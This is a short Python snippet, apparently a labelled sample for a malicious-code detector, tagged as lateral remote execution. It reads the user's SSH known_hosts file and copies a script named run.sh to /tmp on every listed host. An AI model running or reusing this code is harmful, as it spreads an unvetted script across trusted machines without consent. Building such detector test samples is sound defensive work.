import os
import subprocess

for line in open(os.path.expanduser("~/.ssh/known_hosts")):
    subprocess.run(["scp", "run.sh", line.split()[0] + ":/tmp/"]) # expect: malicious-command/lateral-remote-exec
